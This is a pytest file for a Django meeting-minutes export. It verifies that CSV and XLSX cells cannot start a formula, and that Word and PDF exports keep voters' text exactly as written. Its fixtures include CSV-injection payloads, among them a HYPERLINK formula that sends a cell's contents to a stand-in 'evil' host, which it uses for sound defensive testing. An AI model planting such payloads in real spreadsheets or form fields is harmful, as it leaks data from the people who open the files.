"""No cell of the minutes' CSV or XLSX starts a formula (OWASP's CSV injection rule), however
the file is fetched: from the code, from the dashboard's or the archive's download, from the
shell. A voter's text that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
comes out as text with a single quote in front, which is the only change; the numbers stay
numbers. Word and PDF evaluate nothing: there the words stay exactly as written."""

import ast
import csv
import datetime
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from meetings.questions.minutes.export import FORMATS, export_minutes
from meetings.questions.models import Question
from meetings.questions.services import air, moderation
from meetings.rooms.services import candidates, halls
from meetings.spreadsheets import add_sheet, csv_document, inert, workbook, xlsx_document
from tests.questions.helpers import ask, open_conference, signed_in

pytestmark = pytest.mark.django_db
PACKAGE = Path(__file__).resolve().parents[2] / "meetings"

# What an attacker types, as the issue found it, and its variants.
HOSTILE = [
    '=HYPERLINK("http://evil/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",  # full-width equals sign: some spreadsheets read it as "="
    "  =1+1",  # spreadsheets trim leading spaces before they parse
]
# Staff-typed fields can carry a formula too (a careless or hostile moderator).
HOSTILE_HALL = '=HYPERLINK("http://evil/","hall")'
HOSTILE_CANDIDATE = "+Nguyễn Văn Cừ"
HOSTILE_SUMMARY = "-Đã trả lời"
HOSTILE_AGENCY = "@Sở Xây dựng"
SPREADSHEET_FORMATS = sorted(f for f in FORMATS if FORMATS[f].extension in ("csv", "xlsx"))
SIGNS = "=+-@"


def looks_like_formula(text: str) -> bool:
    """What the test, independently of the code, holds to be a formula start."""
    if not text:
        return False
    if text[0] in "\t\r\n\x00" + SIGNS:
        return True
    visible = text.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff")
    return bool(visible) and visible[0] in SIGNS + "＝＋－＠"


def quoted(text: str) -> str:
    return "'" + text


@pytest.fixture
def hostile_conference():
    """A conference whose minutes hold every hostile text: voters' questions (one answered),
    a hall, a candidate, an answer's summary and an agency."""
    conference = open_conference("hn-formulas")
    actor = conference.actor
    hall = halls.hall_add(meeting=conference.meeting, name=HOSTILE_HALL, actor=actor)
    candidate = candidates.candidate_add(
        meeting=conference.meeting, name=HOSTILE_CANDIDATE, actor=actor
    )
    asked = []
    for index, text in enumerate(HOSTILE, start=1):
        question = ask(
            conference,
            text.strip() or "x",
            hall=hall if index == 1 else conference.halls[0],
            device=index,
            asker_name=text,
            asker_named_publicly=True,
        )
        asked.append(moderation.question_approve(question=question, actor=actor))
    # The services clean what voters type (no tab or carriage return at the start survives):
    # the exports must not rely on that, so the texts are also stored exactly as typed.
    for question, text in zip(asked, HOSTILE, strict=True):
        Question.objects.filter(pk=question.pk).update(text=text, asker_name=text)
    answered = asked[1]
    moderation.question_address(question=answered, candidate_id=candidate.pk, actor=actor)
    air.question_put_on_air(question=answered, actor=actor)
    air.question_answer(
        question=answered,
        kind="referred",
        summary=HOSTILE_SUMMARY,
        agency=HOSTILE_AGENCY,
        due_date=datetime.date(2027, 1, 31),
        actor=actor,
    )
    return conference


def from_code(conference, fmt: str, tmp_path) -> bytes:
    return export_minutes(conference.meeting, fmt, "vi")


def from_download(conference, fmt: str, tmp_path) -> bytes:
    """The dashboard's link and the archive's are the same view (unpublished: staff only)."""
    response = signed_in(conference.chair).get(
        f"/archive/{conference.meeting.slug}/minutes.{fmt}?lang=vi"
    )
    assert response.status_code == 200
    return response.content


def from_shell(conference, fmt: str, tmp_path) -> bytes:
    target = tmp_path / f"minutes.{fmt}"
    call_command(
        "export_minutes",
        conference.meeting.slug,
        "--format",
        fmt,
        "--output",
        str(target),
        stdout=io.StringIO(),
    )
    return target.read_bytes()


WAYS = [from_code, from_download, from_shell]


def csv_cells(data: bytes, **options) -> list[list]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), **options))


@pytest.mark.parametrize("fetch", WAYS, ids=lambda way: way.__name__)
def test_no_csv_cell_starts_a_formula_and_each_reads_as_typed_after_its_quote(
    hostile_conference, fetch, tmp_path
):
    rows = csv_cells(fetch(hostile_conference, "csv", tmp_path))
    offending = [cell for row in rows for cell in row if looks_like_formula(cell)]
    assert offending == []
    texts = [row[7] for row in rows[1:]]
    assert sorted(texts) == sorted(quoted(text) for text in HOSTILE)
    askers = [row[5] for row in rows[1:]]
    assert sorted(askers) == sorted(quoted(text) for text in HOSTILE)
    cells = {cell for row in rows for cell in row}
    for text in (HOSTILE_HALL, HOSTILE_CANDIDATE, HOSTILE_SUMMARY, HOSTILE_AGENCY):
        assert quoted(text) in cells
    # Texts in double quotes, numbers bare: read back as numbers, the counts are numbers.
    typed = csv_cells(fetch(hostile_conference, "csv", tmp_path), quoting=csv.QUOTE_NONNUMERIC)
    for row in typed[1:]:
        assert isinstance(row[0], float) and isinstance(row[6], float)  # number, support
        assert isinstance(row[7], str)


@pytest.mark.parametrize("fetch", WAYS, ids=lambda way: way.__name__)
def test_no_xlsx_cell_is_a_formula_and_each_text_is_a_string_cell(
    hostile_conference, fetch, tmp_path
):
    book = load_workbook(io.BytesIO(fetch(hostile_conference, "xlsx", tmp_path)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str)]
    assert {c.data_type for c in texts} == {"s"}
    assert [c.value for c in texts if looks_like_formula(c.value)] == []
    values = {c.value.replace("\n", "\r") for c in texts}  # XML may read \r back as \n
    for text in [*HOSTILE, HOSTILE_HALL, HOSTILE_CANDIDATE, HOSTILE_SUMMARY, HOSTILE_AGENCY]:
        assert quoted(text).replace("\n", "\r") in values, text
    opinions = book.worksheets[0]
    for row in opinions.iter_rows(min_row=2):
        assert row[0].data_type == "n" and isinstance(row[0].value, int)  # the number


@pytest.mark.parametrize("fmt", SPREADSHEET_FORMATS)
def test_every_spreadsheet_format_of_the_minutes_is_covered(fmt):
    """A new spreadsheet format of the minutes joins the tests above by its extension."""
    assert fmt in ("csv", "xlsx")


def test_word_and_pdf_keep_the_words_exactly_as_written(hostile_conference):
    """They evaluate nothing: no quote is added, and the Word document has no field (Word's
    formulas and HYPERLINK are fields)."""
    visible = [text for text in HOSTILE if not text[0].isspace() and text.isascii()]
    data = export_minutes(hostile_conference.meeting, "docx", "vi")
    document = Document(io.BytesIO(data))
    paragraphs = [p.text for p in document.paragraphs]
    for table in document.tables:
        paragraphs += [cell.text for row in table.rows for cell in row.cells]
    word_text = "\n".join(paragraphs)
    xml = document.element.xml
    assert "w:fldSimple" not in xml and "w:instrText" not in xml
    pdf = export_minutes(hostile_conference.meeting, "pdf", "vi")
    pdf_text = " ".join(
        " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split()
    )
    for text in visible:
        assert text in word_text
        assert quoted(text) not in word_text
        assert " ".join(text.split()) in pdf_text


def test_cells_made_inert_one_by_one():
    assert inert('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert inert("\u200b=1") == "'\u200b=1"  # an invisible character first
    assert inert("\u3000＋1") == "'\u3000＋1"  # an ideographic space, a full-width plus
    assert inert("Khi nào sửa đường?") == "Khi nào sửa đường?"
    assert inert("'=1") == "'=1"  # already text to a spreadsheet
    assert inert("a=1") == "a=1"
    assert inert(-3) == -3 and inert(2.5) == 2.5 and inert(0) == 0
    assert inert("-3") == "'-3"  # text that looks like a number stays text
    assert inert(None) is None


def test_numbers_stay_numbers_and_quotes_stay_escaped():
    rows = [["text", "count"], ['=1+"a"', -3], ['say "hi", then; go', 4]]
    parsed = csv_cells(csv_document(rows))
    assert parsed[1] == ['\'=1+"a"', "-3"]
    assert parsed[2] == ['say "hi", then; go', "4"]
    assert b'"say ""hi"", then; go",4' in csv_document(rows)
    book = workbook()
    add_sheet(book, "t", rows[0], rows[1:])
    sheet = load_workbook(io.BytesIO(xlsx_document(book))).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ('\'=1+"a"', "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")


def test_only_the_spreadsheets_module_writes_csv_or_xlsx():
    """So that a new export, or a new column, cannot miss the rule."""
    writers = []
    for path in PACKAGE.rglob("*.py"):
        if "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if any(name.split(".")[0] in ("csv", "openpyxl", "xlsxwriter") for name in names):
                writers.append(str(path.relative_to(PACKAGE)))
    assert writers == []
